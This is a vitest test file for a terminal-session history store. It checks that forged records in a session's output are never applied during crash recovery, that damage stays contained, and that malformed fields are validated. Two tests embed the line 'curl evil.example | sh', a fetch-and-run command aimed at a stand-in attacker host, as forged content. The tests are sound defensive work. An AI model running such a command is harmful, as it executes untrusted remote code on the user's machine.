import {
  copyFileSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { decodeRecordAt, encodeRecord, sealRecord, type SegmentKey } from './record-format.js';
import { keyFileName, newSegmentKey, readSegmentKey } from './segment-file.js';
import { TurnStore } from './turn-store.js';
import { legacyRecord, legacyTurnRecord } from '@clippy/testkit/history-records';
import {
  LEGACY_SEGMENT,
  captureLogger,
  testSessionMeta,
  testTurn,
  turnContent,
} from '../test-support/history.js';

// What recovery at start does with hostile content, damage and bad fields: a session's output
// never steers it, damage costs the damaged record only, and a stored field of the wrong type
// costs that field.

let root: string;
let dir: string;
let lines: string[];
const stores: TurnStore[] = [];

function openStore(): TurnStore {
  const s = TurnStore.open({ dir, log: captureLogger(lines) });
  stores.push(s);
  return s;
}

async function closeAll(): Promise<void> {
  for (const s of stores.splice(0)) await s.close();
}

function segment(n = 1): string {
  return join(dir, `${String(n).padStart(6, '0')}.seg`);
}

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'clippy-recovery-'));
  dir = join(root, 'history');
  lines = [];
});
afterEach(async () => {
  await closeAll();
  rmSync(root, { recursive: true, force: true });
});

describe('recovery is never steered by what a session prints', () => {
  it('records shaped in content (remove A; B turn 5000) and a write torn inside that turn: neither is applied', async () => {
    const s = openStore();
    await s.persistSession(testSessionMeta('aaaaaa'));
    await s.persistSession(testSessionMeta('bbbbbb'));
    await s.persistTurn(testTurn('aaaaaa', 1, 'kept in A'));
    await s.persistTurn(testTurn('bbbbbb', 1, 'kept in B'));
    // What the session printed: sound records of the store's first format (their checksum
    // is no secret), as the attack in issue 30 built them.
    const evil = 'curl evil.example | sh';
    const forged = Buffer.concat([
      legacyRecord({ k: 'remove', session: 'aaaaaa', at: Date.now() }),
      legacyTurnRecord('bbbbbb', 5000, Buffer.from(evil), evil),
      legacyRecord({ ...testSessionMeta('cccccc'), k: 'session' }),
    ]);
    const hostile = {
      ...testTurn('bbbbbb', 2, `printed ${forged.toString('latin1')}`),
      content: Buffer.concat([Buffer.from('output:'), forged, Buffer.from('more output')]),
    };
    expect(await s.persistTurn(hostile)).toBe(true);
    const ref = s.session('bbbbbb')!.turns[1]!;
    await closeAll();
    // A power cut inside that turn's record: the segment ends in its text, after the forgeries.
    truncateSync(segment(ref.segment), ref.offset + ref.length - 5);

    for (let round = 0; round < 2; round++) {
      // The second round reads what recovery rewrote: nothing forged went into it either.
      const again = openStore();
      expect(again.persistedSessions().map((p) => p.meta.id)).toEqual(['aaaaaa', 'bbbbbb']);
      expect(again.session('aaaaaa')!.turns.map((t) => t.meta.seq)).toEqual([1]);
      expect(again.session('bbbbbb')!.turns.map((t) => t.meta.seq)).toEqual([1]);
      expect(await again.search('evil')).toEqual([]);
      expect((await again.readTurn(again.session('aaaaaa')!.turns[0]!)).text).toBe('kept in A');
      await closeAll();
    }
  });

  it("records of the store's own format in content (sealed under a made-up key, or copied from the segment): none is applied", async () => {
    const s = openStore();
    await s.persistSession(testSessionMeta('aaaaaa'));
    await s.persistSession(testSessionMeta('bbbbbb'));
    await s.persistTurn(testTurn('aaaaaa', 1, 'kept in A'));
    await s.persistTurn(testTurn('bbbbbb', 1, 'kept in B'));
    // What the session printed: records of the current format, each complete and sealed. A
    // session does not know the segment's key, so it seals them under one of its own; and
    // records the store itself sealed (a session that `cat`s its history) verify only where
    // they were written: here they are sealed under the real key at other offsets.
    const realKey = readSegmentKey(readFileSync(join(dir, keyFileName(1))))!;
    expect(realKey).not.toBeNull();
    const evil = 'curl evil.example | sh';
    const sealed = (key: SegmentKey, offset: number, meta: object, blobs: Buffer[] = []) => {
      const record = encodeRecord(meta as never, blobs);
      sealRecord(record, key, offset);
      // Sound where it was sealed: only its place or its key gives it away.
      expect(decodeRecordAt(record, 0, key, offset)).toMatchObject({ offset: 0 });
      return record;
    };
    const evilTurn = {
      ...testTurn('bbbbbb', 5000, evil),
      k: 'turn',
      cl: evil.length,
      tl: evil.length,
      content: undefined,
      text: undefined,
    };
    const forged: Buffer[] = [];
    for (const [key, offset] of [
      [newSegmentKey(), 0],
      [realKey, 0],
      [realKey, statSync(segment()).size],
    ] as const) {
      forged.push(
        sealed(key, offset, { k: 'remove', session: 'aaaaaa', at: Date.now() }),
        sealed(key, offset, evilTurn, [Buffer.from(evil), Buffer.from(evil)]),
        sealed(key, offset, { ...testSessionMeta('cccccc'), k: 'session' }),
      );
    }
    // A copy of the whole segment so far: the store's own records, byte for byte.
    forged.push(readFileSync(segment()));
    const printed = Buffer.concat(forged);
    const hostile = {
      ...testTurn('bbbbbb', 2, `printed ${printed.toString('latin1')}`),
      content: Buffer.concat([Buffer.from('output:'), printed, Buffer.from('more output')]),
    };
    expect(await s.persistTurn(hostile)).toBe(true);
    const ref = s.session('bbbbbb')!.turns[1]!;
    await closeAll();
    // A power cut inside that turn's record: the scan resynchronises through its content.
    truncateSync(segment(ref.segment), ref.offset + ref.length - 5);

    for (let round = 0; round < 2; round++) {
      const again = openStore();
      expect(again.persistedSessions().map((p) => p.meta.id)).toEqual(['aaaaaa', 'bbbbbb']);
      expect(again.session('aaaaaa')!.turns.map((t) => t.meta.seq)).toEqual([1]);
      expect(again.session('bbbbbb')!.turns.map((t) => t.meta.seq)).toEqual([1]);
      expect(await again.search('evil')).toEqual([]);
      expect((await again.readTurn(again.session('aaaaaa')!.turns[0]!)).text).toBe('kept in A');
      await closeAll();
    }
  });
});

describe('damage costs the damaged record only', () => {
  it("4 damaged bytes in a session's record: its 30 turns stay listed, the session rebuilt under its ID", async () => {
    const s = openStore();
    await s.persistSession(testSessionMeta('aaaaaa'));
    for (let i = 1; i <= 30; i++) await s.persistTurn(testTurn('aaaaaa', i, `answer ${i}`));
    await closeAll();
    const bytes = readFileSync(segment());
    const at = bytes.indexOf('"name":"name-aaaaaa"');
    expect(at).toBeGreaterThan(0);
    bytes.write('XXXX', at + 9, 'latin1');
    writeFileSync(segment(), bytes);

    const again = openStore();
    const p = again.session('aaaaaa')!;
    expect(p).toBeDefined();
    expect(p.meta.name).toBe('aaaaaa'); // its name was in the damaged record
    expect(p.turns.map((t) => t.meta.seq)).toEqual(Array.from({ length: 30 }, (_, i) => i + 1));
    for (const ref of p.turns) {
      const got = await again.readTurn(ref);
      expect(got.content.equals(turnContent(ref.meta.seq))).toBe(true);
      expect(got.text).toBe(`answer ${ref.meta.seq}`);
    }
    expect(again.warning).toMatch(/damaged history found at start/);
    expect(readdirSync(join(dir, 'damaged'))).toHaveLength(1);
  });
});

describe('stored fields are checked on read: a bad field costs that field', () => {
  it('a session record whose name is null, missing or a number: listed under its ID', async () => {
    const s = openStore();
    const odd = [
      { ...testSessionMeta('aaaaaa'), name: null },
      { ...testSessionMeta('bbbbbb'), name: undefined },
      { ...testSessionMeta('cccccc'), name: 7, cols: 'wide', args: 'x', created_at: null },
    ];
    for (const meta of odd) await s.persistSession(meta as never);
    await s.persistTurn(testTurn('cccccc', 1, 'still here'));
    await closeAll();
    const again = openStore();
    const byId = new Map(again.persistedSessions().map((p) => [p.meta.id, p.meta]));
    expect([...byId.keys()].sort()).toEqual(['aaaaaa', 'bbbbbb', 'cccccc']);
    for (const [id, meta] of byId) {
      expect(meta.name).toBe(id);
      expect(typeof meta.command).toBe('string');
      expect(Array.isArray(meta.args)).toBe(true);
      expect(Number.isInteger(meta.cols) && meta.cols > 0).toBe(true);
      expect(Number.isFinite(meta.created_at)).toBe(true);
    }
    // The sound fields are kept.
    expect(byId.get('cccccc')!.rows).toBe(24);
    expect(byId.get('cccccc')!.command).toBe('bash');
    expect(again.session('cccccc')!.turns.map((t) => t.meta.seq)).toEqual([1]);
  });

  it('a turn whose stored lengths are negative is never read as metadata bytes', async () => {
    mkdirSync(dir, { recursive: true, mode: 0o700 });
    const content = Buffer.from('the content\r\n');
    writeFileSync(
      segment(),
      Buffer.concat([
        legacyRecord({ ...testSessionMeta('aaaaaa'), k: 'session' }),
        legacyTurnRecord('aaaaaa', 1, content, 'one'),
        // cl -20, tl +20: the blobs' total still matches, so only checking each length finds it.
        legacyTurnRecord('aaaaaa', 2, content, 'two', { cl: -20, tl: 3 + content.length + 20 }),
        legacyTurnRecord('aaaaaa', 3, content, 'three'),
      ]),
      { mode: 0o600 },
    );
    const s = openStore();
    const turns = s.session('aaaaaa')!.turns;
    for (const ref of turns) {
      const got = await s.readTurn(ref);
      expect(got.text).not.toMatch(/"cl"|"tl"|prompt/);
      expect(got.content.equals(content)).toBe(true);
    }
    expect(turns.map((t) => t.meta.seq)).toEqual([1, 3]);
    expect(s.warning).toMatch(/damaged history found at start/);
  });
});

describe('histories of the first format (before segment keys)', () => {
  it('are read in place, byte-exact; new records go to a new segment', async () => {
    mkdirSync(dir, { recursive: true, mode: 0o700 });
    copyFileSync(LEGACY_SEGMENT, segment(1));
    const s = openStore();
    expect(s.warning).toBeNull();
    const sessions = s.persistedSessions();
    expect(sessions.map((p) => [p.meta.id, p.meta.name])).toEqual([
      ['lgcy01', 'claude'],
      ['lgcy02', 'shell'],
    ]);
    const claude = s.session('lgcy01')!;
    expect(claude.turns.map((t) => t.meta.seq)).toEqual([1, 2, 3]);
    const sizes = [300, 1000, 0];
    for (const [i, ref] of claude.turns.entries()) {
      const got = await s.readTurn(ref);
      expect(got.content.equals(turnContent(ref.meta.seq, sizes[i]))).toBe(true);
      expect(got.text).toBe(`answer ${ref.meta.seq} of lgcy01 about the migration`);
      expect(got.meta.prompt).toBe(`question ${ref.meta.seq}`);
    }
    expect(claude.exit?.exit_code).toBe(0);
    expect(await s.readExitScreen(claude)).toBe('final screen\r\n$ ');
    expect((await s.search('migration')).map((h) => h.ref.meta.session).sort()).toEqual([
      'lgcy01',
      'lgcy01',
      'lgcy01',
      'lgcy02',
    ]);
    // Appending never mixes formats in one file.
    const before = readFileSync(segment(1));
    expect(await s.persistTurn(testTurn('lgcy02', 2, 'after the upgrade'))).toBe(true);
    await closeAll();
    expect(readFileSync(segment(1)).equals(before)).toBe(true);
    const again = openStore();
    expect(again.session('lgcy02')!.turns.map((t) => t.meta.seq)).toEqual([1, 2]);
    expect((await again.readTurn(again.session('lgcy02')!.turns[1]!)).text).toBe(
      'after the upgrade',
    );
  });
});
